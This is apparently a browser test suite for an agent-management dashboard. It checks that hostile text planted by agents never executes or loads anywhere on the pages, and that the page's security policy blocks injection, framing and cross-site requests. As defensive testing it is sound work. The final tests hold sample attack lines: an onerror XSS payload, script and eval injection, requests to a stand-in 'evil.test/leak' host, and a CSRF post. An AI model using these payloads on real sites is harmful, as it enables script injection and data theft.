// Hostile text in every field that an agent can write, on every page that shows it: nothing of it
// runs, loads or leaves its place.

import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { fileURLToPath } from "node:url";
import { type Browser, eventually, launch, live, open, type Page } from "./browser.ts";
import { ALARM, HOSTILE } from "./corpus.ts";
import { Hive } from "./hive.ts";
import { configuration, fileName, links, named, plant } from "./plant.ts";

let hive: Hive;
let browser: Browser;
before(async () => {
  const engine = fileURLToPath(new URL("stand-in.sh", import.meta.url));
  const config = `[engine]\ndefault = "${engine}"\n[limits]\ndeliveries_before_dead = 1\n`;
  [hive, browser] = await Promise.all([Hive.start({ config }), launch()]);
});
after(async () => {
  await browser?.close();
  await hive?.stop();
});

/** Opens everything that is folded, and waits until the host has turned all of it into parts. */
async function unfold(page: Page): Promise<void> {
  const more = page.getByRole("button", { name: /^Show (all|more|\d+ more)/ });
  while ((await more.count()) > 0) await more.first().click();
  await eventually("everything is shown", () =>
    page.evaluate(() => {
      document.querySelectorAll("details").forEach((one) => (one.open = true));
      document.querySelectorAll<HTMLElement>(".row-menu [aria-expanded=false]").forEach((one) => one.click());
      const opened = [...document.querySelectorAll("details")].every((one) => one.children.length > 1);
      return opened && document.querySelector(".markdown > .plain, .terminal > .plain") === null;
    }),
  );
}

/** Nothing that is on the page is more than text, and the text is there. */
async function quiet(page: Page, where: string, texts: string[]): Promise<void> {
  const found = await page.evaluate((alarm) => ({
    alarm: (window as unknown as Record<string, unknown>)[alarm],
    scripts: [...document.querySelectorAll("script")].map((script) => script.getAttribute("src")),
    alien: [...document.querySelectorAll("iframe, object, embed, img:not(.mark[src^='/icon']), form[action], base, meta[http-equiv], link[rel=stylesheet]:not([href^='/assets/'])")].map((element) => element.outerHTML),
    links: [...document.querySelectorAll("a[href]")].map((link) => (link as HTMLAnchorElement).protocol).filter((kind) => !/^(https?|mailto):$/.test(kind)),
    handlers: [...document.querySelectorAll("*")].filter((element) => element.getAttributeNames().some((name) => name.startsWith("on"))).length,
    text: document.body.textContent ?? "",
  }), ALARM);
  assert.equal(found.alarm, undefined, where);
  assert.ok(found.scripts.every((src) => src?.startsWith("/assets/")), where);
  assert.deepEqual([found.alien, found.links, found.handlers], [[], [], 0], where);
  for (const text of texts) assert.ok(found.text.includes(text), `${where} does not show ${text}`);
}

async function loaded(page: Page): Promise<void> {
  await page.locator("main").waitFor();
  await eventually("it is loaded", async () => (await page.getByText("Loading").count()) === 0);
}

/** A page of which nothing is asked of anybody else, and that complains of nothing. */
async function watched(link: string): Promise<{ page: Page; end: () => Promise<void> }> {
  const { page, complaints } = await open(browser, link);
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  await live(page);
  const end = async (): Promise<void> => {
    const own = new URL(page.url()).origin;
    assert.deepEqual(asked.filter((url) => !url.startsWith(own)), [], "nothing was asked of anybody else");
    assert.deepEqual(complaints.filter((line) => /Content Security|Trusted|error:/.test(line)), []);
    await page.context().close();
  };
  return { page, end };
}

/** The texts that are the same however they are shown: no marks in them, nothing that hides. */
const PLAIN = HOSTILE.filter((text) => !/\p{Cc}|\p{Cf}/u.test(text));

test("nothing that an agent wrote runs, loads or becomes markup, on any page", async () => {
  for (const number of HOSTILE.keys()) await plant(hive, number);
  // One that the hive runs has links on its card, and a configuration to ask for.
  await hive.cli("spawn", "mallory", "--runtime", "process");
  await eventually("it is up", async () => (await hive.call("list")).agents.some((one: { name: string; state: string }) => one.name === "mallory" && one.state !== "starting"));
  links(hive, "mallory", HOSTILE[0] as string);
  await hive.propose("mallory", configuration(), PLAIN.join("\n").slice(0, 2_000));
  const { page, end } = await watched(await hive.link());
  const places: [place: string, texts: string[]][] = [
    ["", PLAIN], ["messages", HOSTILE.slice(0, 2)], ["decisions", PLAIN], ["permissions", []], ["schedules", PLAIN], ["stats", []], ["log", PLAIN.slice(0, 1)], ["settings", []],
  ];
  for (const [place, texts] of places) {
    await page.goto(`${hive.address}/#/${place}`);
    await loaded(page);
    if (place === "messages") {
      // All that there are, a page after the other.
      const older = page.getByRole("button", { name: "Older" });
      while ((await older.count()) > 0) {
        const shown = await page.locator("li.message").count();
        await older.click();
        await eventually("older ones come", async () => (await page.locator("li.message").count()) !== shown);
      }
    }
    await unfold(page);
    if (place === "") await page.locator(".fleet .links a").first().waitFor();
    await quiet(page, `#/${place}`, texts);
  }
  await end();
});

test("nor on an agent's own page, in any tab", async () => {
  const { page, end } = await watched(await hive.link());
  for (const [number, text] of HOSTILE.entries()) {
    const name = named(number);
    const texts = PLAIN.includes(text) ? [text] : [];
    await page.goto(`${hive.address}/#/agent/${name}`);
    await page.getByRole("heading", { name, exact: true, level: 1 }).waitFor();
    await page.locator(".row.end").first().waitFor();
    await unfold(page);
    assert.equal(await page.getByRole("region", { name: "Login" }).count(), number % 2, "the login is shown where one is needed");
    await quiet(page, name, texts);
    await page.getByRole("tab", { name: "tasks" }).click();
    await page.locator("button.task").click();
    await eventually("both tails are there", async () => (await page.locator(".tail").count()) === 2);
    await unfold(page);
    await quiet(page, `${name} tasks`, texts);
    await page.getByRole("tab", { name: "statistics" }).click();
    await page.getByRole("region", { name: "Turns, newest first" }).waitFor();
    await quiet(page, `${name} statistics`, []);
    await page.getByRole("tab", { name: "notes" }).click();
    for (const file of ["note.md", "note.txt", fileName(number)]) {
      await page.getByRole("button", { name: file, exact: true }).click();
      await page.locator(".files > p.dim").waitFor();
      await unfold(page);
      await quiet(page, `${name} ${file}`, file === "note.md" ? [] : texts);
      await page.locator(".crumbs").getByRole("button", { name: "/state" }).click();
      await page.locator(".files table").waitFor();
      assert.equal(await page.getByRole("button", { name: /^(etc|token)/ }).count(), 0, "links are not followed");
    }
  }
  await end();
  // The same page stands alone on the agent's own port.
  const own = await watched(await hive.link(named(0)));
  await own.page.locator(".row.end").first().waitFor();
  await unfold(own.page);
  await quiet(own.page, "its own port", [HOSTILE[0] as string]);
  await own.end();
});

test("nor as a refusal, and a thread is text too", async () => {
  const { page, end } = await watched(await hive.link());
  const text = HOSTILE.join("\n");
  const harness = await hive.agent("fay");
  await harness.ask("post_state", { turn_state: "idle", since: new Date().toISOString() });
  const refused = harness.refuse(text);
  await page.goto(`${hive.address}/#/agent/fay`);
  await page.getByRole("button", { name: "Compact" }).click();
  await refused;
  await page.locator(".toast.bad", { hasText: HOSTILE[0] as string }).waitFor();
  await quiet(page, "a refusal", PLAIN);
  const { messages } = await hive.call("history", { with: named(0) });
  await page.goto(`${hive.address}/#/thread/${messages[0].message_id}`);
  await page.locator("li.message").nth(1).waitFor();
  await unfold(page);
  await quiet(page, "a thread", [HOSTILE[0] as string]);
  await end();
});

test("nobody is called what would hurt", async () => {
  const peer = hive.peer(named(0));
  const labels: string[] = [];
  for (const name of HOSTILE) {
    for (const call of ["spawn", "request_spawn"]) assert.equal((await hive.call(call, { name, runtime: "none" })).ok, false, `${call} ${name}`);
    await peer.ask("wake", { from: name, body: `woken by ${name}` }).then(() => labels.push(name), () => undefined);
  }
  peer.close();
  assert.deepEqual(labels, ["constructor"], "a plain word");
  const { page, end } = await watched(await hive.link());
  await page.goto(`${hive.address}/#/messages`);
  await page.getByText("woken by constructor").waitFor();
  await quiet(page, "a label", labels);
  await end();
});

test("the page's policy stops what would slip through", async () => {
  const { page } = await open(browser, await hive.link());
  await live(page);
  // As text: what a compiler adds to functions is not there in the page.
  const refused = (await page.evaluate(`(async () => {
    const tried = [];
    try { document.body.innerHTML += '<img src=x onerror="window.${ALARM}=1">'; } catch { tried.push("markup"); }
    try { setTimeout("window.${ALARM}=1"); } catch { tried.push("code"); }
    try {
      const script = document.createElement("script");
      script.text = "window.${ALARM}=1";
      document.body.append(script);
    } catch { tried.push("script"); }
    new Image().src = "http://evil.test/leak.png";
    await fetch("http://evil.test/leak").catch(() => tried.push("fetch"));
    await new Promise((done) => setTimeout(done, 50)); // Whatever was set going has run.
    return { tried, alarm: window.${ALARM} };
  })()`)) as { tried: string[]; alarm: unknown };
  assert.deepEqual([refused.tried.sort(), refused.alarm], [["code", "fetch", "markup", "script"], undefined]);
  await page.context().close();
});

test("another site can neither frame the page, nor read it, nor act in it", async () => {
  const { createServer } = await import("node:http");
  const evil = createServer((_, answer) => answer.setHeader("content-type", "text/html").end("<title>evil</title>"));
  await new Promise<void>((done) => evil.listen(0, "127.0.0.1", done));
  const { port } = evil.address() as { port: number };
  const { page } = await open(browser, `http://127.0.0.1:${port}/`);
  const sent = async (): Promise<number> => (await hive.call("history", {})).messages.length;
  const before = await sent();
  const outcome = await page.evaluate(async (target) => {
    const read = await fetch(`${target}/api/state`, { headers: { authorization: "Bearer x" } }).then(() => "read", () => "refused");
    const form = await fetch(`${target}/api/send`, { method: "POST", mode: "no-cors", body: JSON.stringify({ to: "eve", body: "csrf" }) }).then((answer) => answer.type, () => "refused");
    const frame = document.createElement("iframe");
    frame.src = target;
    document.body.append(frame);
    await new Promise((done) => frame.addEventListener("load", done));
    let inside: string;
    try {
      inside = frame.contentDocument?.title ?? "hidden";
    } catch {
      inside = "hidden";
    }
    return { read, form, inside };
  }, hive.address);
  assert.equal(outcome.read, "refused");
  assert.equal(outcome.inside, "hidden");
  assert.equal(await sent(), before, "nothing was sent");
  for (const frame of page.frames().slice(1)) assert.equal(await frame.getByText("Open the hive").count(), 0, "it is not framed");
  await page.context().close();
  evil.close();
});
